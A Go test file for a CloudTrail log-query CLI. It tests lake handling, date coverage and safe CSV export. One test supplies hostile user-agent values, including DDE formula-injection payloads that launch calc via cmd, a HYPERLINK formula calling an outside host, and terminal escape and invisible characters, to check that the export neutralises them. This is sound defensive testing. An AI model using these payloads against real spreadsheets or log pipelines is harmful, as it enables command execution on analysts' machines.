package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/keytrail/keytrail/internal/event"
	"github.com/keytrail/keytrail/internal/lake"
	"github.com/keytrail/keytrail/internal/visible"
	"github.com/keytrail/keytrail/queries/duck/testlake"
)

// testEvent is one stored row with the fields the library's queries read.
func testEvent(t *testing.T, id, at, name, principal, resource, ua string) event.Event {
	t.Helper()
	tm, err := time.Parse(time.RFC3339Nano, at)
	if err != nil {
		t.Fatal(err)
	}
	e := event.Event{
		EventID: id, EventTime: tm, EventVersion: "1.11", EventSource: "secretsmanager.amazonaws.com", EventName: name,
		EventType: "AwsApiCall", EventCategory: "Management", AWSRegion: "us-east-1", RecipientAcct: testlake.Home,
		IdentityType: "IAMUser", CallerKind: event.CallerPerson, PrincipalARN: principal, PrincipalAccount: testlake.Home,
		SourceIP: "198.51.100.7", UserAgent: ua, ResourceARN: resource, ResourceType: event.ResourceSecret,
		ResourceAccount: testlake.Home, ResourceARNs: []string{resource},
		SourceObject: "AWSLogs/111111111111/CloudTrail/us-east-1/2026/07/01/h.json.gz",
	}
	if strings.HasPrefix(resource, "arn:aws:kms") {
		e.EventSource, e.ResourceType = "kms.amazonaws.com", event.ResourceKey
	}
	return e
}

func scenarioLake(t *testing.T) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "lake")
	if err := testlake.ScenarioSource(dir); err != nil {
		t.Fatal(err)
	}
	return dir
}

// noRawHidden fails if text holds a rune package visible spells out,
// other than the line feeds that end lines.
func noRawHidden(t *testing.T, name, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%s is not valid UTF-8", name)
	}
	for i, r := range text {
		if r != '\n' && visible.Hidden(r) {
			t.Errorf("%s holds %U raw at byte %d: %q", name, r, i, text[max(0, i-40):min(len(text), i+40)])
			return
		}
	}
}

func TestQueryMissingLake(t *testing.T) {
	missing := filepath.Join(t.TempDir(), "no-such-lake")
	for _, args := range [][]string{
		{"query", "top_talkers", "--lake", missing, "--param", "from=2026-07-01", "--param", "to=2026-07-08"},
		{"query", "top_talkers", "--lake", "s3://bucket/lake", "--param", "from=2026-07-01", "--param", "to=2026-07-08"},
	} {
		env, stdout, stderr := testEnv()
		code := run(context.Background(), env, args)
		if code == 0 || !strings.Contains(stderr.String(), "lake") || stdout.Len() != 0 {
			t.Errorf("%v: exit %d, stdout %q, stderr %q; want an error about the lake", args, code, stdout, stderr)
		}
	}
	if _, err := os.Stat(missing); !os.IsNotExist(err) {
		t.Errorf("the missing lake was created: %v", err)
	}
}

func TestQueryCoverage(t *testing.T) {
	lakeDir := scenarioLake(t)
	tests := []struct {
		name     string
		from, to string
		code     int
		stderr   []string
	}{
		// The scenario has events on 07-01 … 07-08.
		{"partial", "2026-07-01", "2026-07-15", 0, []string{"8 of 14 days", "2026-07-09 to 2026-07-14"}},
		{"complete", "2026-07-02", "2026-07-04", 0, []string{"all 2 days"}},
		{"within a day", "2026-07-03T11:30:00Z", "2026-07-03T12:30:00Z", 0, []string{"1 of 1 day has events"}},
		{"none", "2025-01-01", "2025-01-08", 1, []string{"no events", "0 of 7 days"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env, stdout, stderr := testEnv()
			code := run(context.Background(), env, []string{"query", "top_talkers", "--lake", lakeDir, "--output", "csv",
				"--param", "from=" + tt.from, "--param", "to=" + tt.to})
			if code != tt.code {
				t.Fatalf("exit %d, want %d\n%s", code, tt.code, stderr)
			}
			for _, want := range tt.stderr {
				if !strings.Contains(stderr.String(), want) {
					t.Errorf("stderr lacks %q:\n%s", want, stderr)
				}
			}
			if tt.code != 0 && stdout.Len() != 0 {
				t.Errorf("a query over no data printed a result:\n%s", stdout)
			}
		})
	}
}

// TestQueryCSVHostile runs keytrail query --format csv over a lake whose
// user agents try to run formulas and drive a terminal.
func TestQueryCSVHostile(t *testing.T) {
	const who = "arn:aws:iam::111111111111:user/ua"
	agents := []struct{ in, want string }{
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"+HYPERLINK(\"http://x/\"&A1)", "'+HYPERLINK(\"http://x/\"&A1)"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", `'\t=1+1`},
		{"\r=1+1", `'\r=1+1`},
		{"aws-cli/2\x1b[2J\x07\x00", `aws-cli/2\u001b[2J\u0007\u0000`},
		{"boto3\u202e\u2066/1\u200b\ufeff\U000e0041", `boto3\u202e\u2066/1\u200b\ufeff\U000e0041`},
		{"a;=cmd|' /C calc'!A0", "a;=cmd|' /C calc'!A0"},
	}
	var rows []event.Event
	for i, a := range agents {
		at := time.Date(2026, 7, 1, 10, i, 0, 0, time.UTC).Format(time.RFC3339)
		e := testEvent(t, "h"+string(rune('a'+i)), at, "GetSecretValue", who, testlake.S1, a.in)
		e.SourceIndex = int64(i)
		rows = append(rows, e)
	}
	lakeDir := filepath.Join(t.TempDir(), "lake")
	if err := testlake.WriteEvents(lakeDir, "h", rows); err != nil {
		t.Fatal(err)
	}
	env, stdout, stderr := testEnv()
	if code := run(context.Background(), env, []string{"query", "principal_activity", "--lake", lakeDir, "--output", "csv",
		"--param", "principal=" + who, "--param", "from=2026-07-01", "--param", "to=2026-07-02"}); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	out := stdout.String()
	noRawHidden(t, "query CSV", out)
	if n := strings.Count(out, "\n"); n != len(agents)+1 {
		t.Errorf("%d lines for %d records", n, len(agents)+1)
	}
	for _, line := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
		if !strings.HasPrefix(line, `"`) || !strings.HasSuffix(line, `"`) || strings.Contains(line, `",=`) {
			t.Errorf("not every cell is quoted: %q", line)
		}
	}
	recs, err := csv.NewReader(bytes.NewReader(stdout.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := slices.Index(recs[0], "user_agent")
	if col < 0 {
		t.Fatalf("no user_agent column in %v", recs[0])
	}
	for i, a := range agents {
		if got := recs[i+1][col]; got != a.want {
			t.Errorf("user agent %q written as %q, want %q", a.in, got, a.want)
		}
	}
}

// TestEngineObjects: where the review reads the quarantine from. Locally,
// the lake folder (which must exist); on Athena, only an s3:// --lake.
func TestEngineObjects(t *testing.T) {
	lakeDir := scenarioLake(t)
	missing := filepath.Join(t.TempDir(), "missing")
	env, _, _ := testEnv()
	tests := []struct {
		name    string
		eng     engine
		lakeSet bool
		want    string // "dir", "s3", "none" or an error substring
	}{
		{"local", engine{lake: lakeDir}, true, "dir"},
		{"local default", engine{lake: lakeDir}, false, "dir"},
		{"local missing", engine{lake: missing}, true, "does not exist"},
		{"athena without --lake", engine{lake: "lake", athena: true}, false, "none"},
		{"athena with a folder", engine{lake: lakeDir, athena: true}, true, "s3://bucket/prefix"},
		{"athena with s3", engine{lake: "s3://bucket/lake", athena: true}, true, "s3"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			objs, err := tt.eng.objects(context.Background(), &app{env: env}, tt.lakeSet)
			got := "none"
			switch o := objs.(type) {
			case nil:
			case *lake.Dir:
				got = "dir"
			case *lake.S3:
				got = "s3"
			default:
				got = fmt.Sprintf("%T", o)
			}
			if err != nil {
				got = err.Error()
			}
			if !strings.Contains(got, tt.want) {
				t.Errorf("objects = %s, want %s", got, tt.want)
			}
		})
	}
	if _, err := os.Stat(missing); !os.IsNotExist(err) {
		t.Errorf("a missing lake was created: %v", err)
	}
}
